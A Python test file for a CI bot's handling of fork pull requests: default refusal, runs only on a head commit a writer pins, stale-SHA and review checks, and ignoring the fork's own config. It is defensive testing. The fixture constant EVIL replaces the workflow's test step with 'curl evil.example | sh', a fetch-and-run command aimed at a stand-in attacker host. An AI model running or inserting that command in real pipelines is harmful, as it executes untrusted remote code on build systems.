"""A head in a fork is somebody else's code: what lets it run, and what does not."""

from __future__ import annotations

import pytest
from inline_snapshot import snapshot

from bot.demo.simulators.depot import SimulatedDepot
from bot.demo.simulators.github import SimulatedGitHub
from bot.messages import refusals
from tests.support.commands import CI, changes, not_permitted, reason, reasons, said
from tests.support.conversation import CI as CI_TEXT
from tests.support.conversation import REPO, Conversation
from tests.support.pull_requests import (
    CONFIG,
    changed,
    ends,
    opens_fork,
    rules,
    runs,
    sha,
    shown,
    shows,
    takes_back,
)
from tests.support.sentences import queued

pytestmark = pytest.mark.anyio

RUN = "/depot run ci.yml"
PINNED = "forks: pinned\n"
EVIL = CI_TEXT.replace("make test", "curl evil.example | sh")


def pin(pr: Conversation) -> str:
    return f"{RUN} sha={pr.head}"


async def forked(pr: Conversation, config: str | None = None) -> Conversation:
    """A stranger's pull request from a fork, its workflow file changed, a minute old."""
    if config is not None:
        await rules(pr, config)
    _, pull = opens_fork(pr, {CI: EVIL})
    await pr.settles()
    await pr.passes(60)
    return Conversation(pr.clock, pr.stage, pr.services, REPO, pull.number)


async def ends_well(pr: Conversation) -> None:
    await ends(pr)
    pr.assert_said_nothing_else()


# --- refused -------------------------------------------------------------------------------------


@pytest.mark.parametrize("login", ["ada", "maya", "alice"])
@pytest.mark.parametrize("is_pinned", [False, True])
async def test_forks_are_refused_by_default(pr: Conversation, login: str, is_pinned: bool) -> None:
    theirs = await forked(pr)
    await theirs.says(login, pin(theirs) if is_pinned else RUN)
    said_ = theirs.reply()
    assert said_ == refusals.fork_refused()
    assert "`forks: pinned` in `.github/depot-bot.yml` on the default branch" in said_
    assert reason(theirs) == "fork-refused"
    assert theirs.depot.calls_of("Run") == []


async def test_forks_are_refused_when_the_config_says_so(pr: Conversation) -> None:
    theirs = await forked(pr, "forks: refuse\n")
    await theirs.says("ada", pin(theirs))
    assert theirs.reply() == snapshot(
        "The head is in a fork, and this repository runs no commit of a fork. `forks: pinned` in `.github/depot-bot.yml` on the default branch would allow it for commits that a writer names."
    )
    assert runs(theirs) == []


async def test_a_forks_author_may_nothing_there(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    await theirs.says("mallory", pin(theirs))
    assert theirs.reply().startswith(not_permitted("run", "write", "read"))
    assert reason(theirs) == "not-a-writer"
    assert runs(theirs) == []


async def test_a_fork_needs_the_sha(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    await theirs.says("alice", "/depot run ci.yml job=test")
    line = f"/depot run ci.yml job=test sha={theirs.head}"
    assert theirs.reply() == snapshot(
        "The head is in a fork: its code and its workflow files are somebody else's. Read them, then name the commit: `/depot run ci.yml job=test sha=bd07a5b9f9cc962a85f44ad1e52c1277820db56e`"
    )
    assert reason(theirs) == "fork-needs-sha"
    assert runs(theirs) == []
    await theirs.says("alice", line)
    assert theirs.reply() == queued(theirs.depot.runs[0], "`ci.yml` (`test`)")
    assert runs(theirs) == [theirs.head]
    await ends_well(theirs)


async def test_a_stale_sha_of_a_fork_runs_nothing(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    before = sha(theirs)
    pr.github.push(REPO, theirs.number, {"more.txt": "evil\n"})
    await theirs.passes(60)
    await theirs.says("alice", f"{RUN} sha={before}")
    assert theirs.reply() == snapshot(
        "`bd07a5b` is not the head of this pull request: that is `36d29a4` now. If you have read it: `/depot run ci.yml sha=36d29a4deb41fae0ccd631deec7769391ff96e3c`"
    )
    assert reason(theirs) == "stale-sha"
    assert runs(theirs) == []


async def test_a_push_after_the_pin_runs_nothing(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    sha(theirs)
    pr.github.comment(REPO, theirs.number, "alice", pin(theirs))
    pr.github.push(REPO, theirs.number, {"more.txt": "evil\n"})
    await theirs.settles()
    assert theirs.reply() == snapshot(
        "`bd07a5b` is not the head of this pull request: that is `36d29a4` now. If you have read it: `/depot run ci.yml sha=36d29a4deb41fae0ccd631deec7769391ff96e3c`"
    )
    assert runs(theirs) == []


@pytest.mark.parametrize("lowered", ["read", "anyone"])
async def test_a_reader_pins_nothing_however_low_the_role_for_run_is(
    pr: Conversation, lowered: str
) -> None:
    theirs = await forked(pr, f"forks: pinned\npermissions: {{run: {lowered}}}\n")
    for login in ("rita", "trudy", "mallory"):
        await theirs.says(login, pin(theirs))
        assert theirs.reply() == refusals.fork_needs_writer()
    assert [reasons(comment) for comment in said(theirs)] == [["fork-needs-writer"]] * 3
    assert runs(theirs) == []


# --- allowed -------------------------------------------------------------------------------------


async def test_a_writer_who_pins_runs_exactly_that_commit(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    await theirs.says("alice", pin(theirs))
    assert theirs.reply() == queued(theirs.depot.runs[0])
    assert runs(theirs) == [theirs.head]
    (call,) = theirs.depot.calls_of("Run")
    assert call.request == {"repo": REPO, "sha": theirs.head, "workflow": CI}
    await ends_well(theirs)


async def test_a_pin_needs_no_date(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    pr.github.push(REPO, theirs.number, {"more.txt": "fine\n"})
    await theirs.says("alice", pin(theirs))
    assert theirs.reply() == queued(theirs.depot.runs[0])
    await ends_well(theirs)


@pytest.mark.parametrize("state", ["commented", "approved"])
async def test_a_writers_review_of_the_commit_runs_it(pr: Conversation, state: str) -> None:
    theirs = await forked(pr, PINNED)
    pr.github.review(REPO, theirs.number, "alice", RUN, state)  # type: ignore[arg-type]
    await theirs.settles()
    assert theirs.reply() == queued(theirs.depot.runs[0])
    assert runs(theirs) == [theirs.head]
    await ends_well(theirs)


async def test_a_readers_review_runs_nothing(pr: Conversation) -> None:
    theirs = await forked(pr, "forks: pinned\npermissions: {run: read}\n")
    pr.github.review(REPO, theirs.number, "rita", RUN, "approved")
    await theirs.settles()
    assert theirs.reply() == snapshot(
        "A fork's commit runs only when somebody with the `write` role names it."
    )
    assert runs(theirs) == []


async def test_a_review_of_an_older_commit_of_a_fork_runs_nothing(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    before = sha(theirs)
    pr.github.push(REPO, theirs.number, {"more.txt": "evil\n"})
    pr.github.review(REPO, theirs.number, "alice", RUN, commit_id=before)
    await theirs.settles()
    assert theirs.reply() == snapshot(
        "`bd07a5b` is not the head of this pull request: that is `36d29a4` now. If you have read it: `/depot run ci.yml sha=36d29a4deb41fae0ccd631deec7769391ff96e3c`"
    )
    assert runs(theirs) == []


@pytest.mark.parametrize("is_allowed", [False, True])
async def test_a_deleted_fork_is_a_fork(pr: Conversation, is_allowed: bool) -> None:
    theirs = await forked(pr, PINNED if is_allowed else None)
    pull = shown(theirs)
    pull["head"] = {**pull["head"], "repo": None, "user": None}
    shows(theirs, pull)
    await theirs.says("alice", RUN)
    expected = refusals.fork_needs_sha(pin(theirs)) if is_allowed else refusals.fork_refused()
    assert theirs.reply() == expected
    assert runs(theirs) == []
    await theirs.says("alice", pin(theirs))
    if not is_allowed:
        assert theirs.reply() == refusals.fork_refused()
        assert runs(theirs) == []
        return
    assert theirs.reply() == queued(theirs.depot.runs[0])
    assert runs(theirs) == [theirs.head]
    await ends_well(theirs)


async def test_webhooks_of_a_pull_request_whose_fork_is_gone_are_understood(
    pr: Conversation,
) -> None:
    theirs = await forked(pr, PINNED)
    pull = shown(theirs)
    gone = {**pull["head"], "repo": None, "user": None}
    pr.github.review(REPO, theirs.number, "alice", RUN)
    written = takes_back(pr, "pull_request_review")
    pr.github.hooks.pending.append(changed(written, pull_request={"head": gone}))
    shows(theirs, {**pull, "head": gone})
    await theirs.settles()
    assert theirs.reply() == queued(theirs.depot.runs[0])
    assert runs(theirs) == [theirs.head]
    await ends_well(theirs)


async def test_a_fork_of_the_same_owner_is_a_fork(pr: Conversation) -> None:
    pull = shown(pr)
    repository = {**pull["head"]["repo"], "full_name": "octo/hello-fork"}
    shows(pr, {**pull, "head": {**pull["head"], "repo": repository}})
    await pr.says("alice", RUN)
    assert pr.reply() == snapshot(
        "The head is in a fork, and this repository runs no commit of a fork. `forks: pinned` in `.github/depot-bot.yml` on the default branch would allow it for commits that a writer names."
    )
    assert runs(pr) == []


async def test_the_repository_may_be_spelt_in_other_case(pr: Conversation) -> None:
    pull = shown(pr)
    repository = {**pull["head"]["repo"], "full_name": "Octo/Hello"}
    shows(pr, {**pull, "head": {**pull["head"], "repo": repository}})
    await pr.says("alice", RUN)
    assert pr.reply() == queued(pr.depot.runs[0])
    await ends_well(pr)


# --- what never runs on a fork -------------------------------------------------------------------


@pytest.mark.parametrize("config", [None, PINNED])
async def test_yaml_from_a_comment_never_runs_on_a_fork(
    pr: Conversation, config: str | None
) -> None:
    theirs = await forked(pr, config)
    await theirs.says("maya", f"/depot run sha={theirs.head}\n```yaml\n{CI_TEXT}```")
    said_ = theirs.reply()
    assert said_ == (refusals.fork_inline() if config else refusals.fork_refused())
    assert reason(theirs) == ("fork-inline" if config else "fork-refused")
    assert runs(theirs) == []


@pytest.mark.parametrize("config", [None, PINNED])
async def test_a_dispatch_never_runs_on_a_fork(pr: Conversation, config: str | None) -> None:
    theirs = await forked(pr, config)
    await theirs.says("ada", "/depot dispatch nightly.yaml")
    assert theirs.reply() == refusals.fork_dispatch()
    assert reason(theirs) == "fork-dispatch"
    pr.github.review(REPO, theirs.number, "ada", "/depot dispatch nightly.yaml", "approved")
    await theirs.settles()
    assert theirs.reply() == refusals.fork_dispatch()
    assert theirs.depot.calls_of("DispatchWorkflow") == []


async def test_the_forks_own_config_changes_nothing(
    pr: Conversation, github: SimulatedGitHub
) -> None:
    fork, pull = opens_fork(pr, {CONFIG: f"{PINNED}permissions: {{run: anyone}}\n"})
    github.commit(fork.full_name, "main", {CONFIG: f"{PINNED}permissions: {{run: anyone}}\n"})
    await pr.passes(120)
    theirs = Conversation(pr.clock, pr.stage, pr.services, REPO, pull.number)
    assert theirs.reply() == snapshot(
        "`.github/depot-bot.yml` in this pull request is valid. Until it is merged the old rules hold."
    )
    await theirs.says("mallory", pin(theirs))
    assert theirs.reply().startswith(not_permitted("run", "write", "read"))
    await theirs.says("ada", pin(theirs))
    assert theirs.reply() == snapshot(
        "The head is in a fork, and this repository runs no commit of a fork. `forks: pinned` in `.github/depot-bot.yml` on the default branch would allow it for commits that a writer names."
    )
    assert runs(theirs) == []


async def test_looking_at_a_fork_is_allowed(pr: Conversation) -> None:
    theirs = await forked(pr)
    await theirs.says("mallory", "/depot list")
    assert theirs.reply().startswith(f"At `{theirs.head[:7]}`:")
    await theirs.says("mallory", "/depot status")
    assert theirs.reply().startswith(f"There is no run on `{theirs.head[:7]}`.")


# --- runs that are there -------------------------------------------------------------------------


async def test_a_forks_run_is_run_again_where_forks_are_allowed(
    pr: Conversation, depot: SimulatedDepot
) -> None:
    theirs = await forked(pr, PINNED)
    depot.plan(job="test", attempt=1, outcome="failed")
    await theirs.says("alice", pin(theirs))
    theirs.reply()
    await ends(theirs)
    for command in ("retry", "rerun"):
        await theirs.says("alice", f"/depot {command} {depot.runs[0].run_id}")
        theirs.reply()
        await ends(theirs)
    assert [method for method, _ in changes(depot)] == ["Run", "RetryFailedJobs", "RerunWorkflow"]
    assert {run.sha for run in depot.runs} == {theirs.head}


@pytest.mark.parametrize("command", ["retry", "rerun"])
async def test_a_forks_run_is_not_run_again_where_forks_are_refused(
    pr: Conversation, depot: SimulatedDepot, command: str
) -> None:
    theirs = await forked(pr)
    run = depot.foreign_run(REPO, theirs.head, CI)
    depot.finish(run.run_id, "failed")
    await theirs.says("alice", f"/depot {command}")
    theirs.reply()
    asked = changes(depot)
    await ends(theirs)
    assert asked == []


@pytest.mark.parametrize("command", ["retry", "rerun"])
async def test_a_forks_run_is_not_run_again_from_another_pull_request(
    pr: Conversation, depot: SimulatedDepot, command: str
) -> None:
    theirs = await forked(pr)
    run = depot.foreign_run(REPO, theirs.head, CI)
    depot.finish(run.run_id, "failed")
    await pr.says("alice", f"/depot {command} {run.run_id}")
    asked = changes(depot)
    while pr.unread():
        pr.reply()
    await ends(pr)
    assert asked == []


async def test_a_forks_run_may_be_cancelled_where_forks_are_refused(
    pr: Conversation, depot: SimulatedDepot
) -> None:
    theirs = await forked(pr)
    depot.plan(seconds=3600)
    run = depot.foreign_run(REPO, theirs.head, CI)
    await theirs.says("alice", "/depot cancel")
    theirs.reply()
    assert [method for method, _ in changes(depot)] == ["CancelRun"]
    await ends(theirs)
    assert depot.run(run.run_id).status == "cancelled"


async def test_the_config_takes_forks_back(pr: Conversation) -> None:
    theirs = await forked(pr, PINNED)
    await rules(pr, "forks: refuse\n")
    await theirs.says("alice", pin(theirs))
    assert theirs.reply() == snapshot(
        "The head is in a fork, and this repository runs no commit of a fork. `forks: pinned` in `.github/depot-bot.yml` on the default branch would allow it for commits that a writer names."
    )
    assert runs(theirs) == []
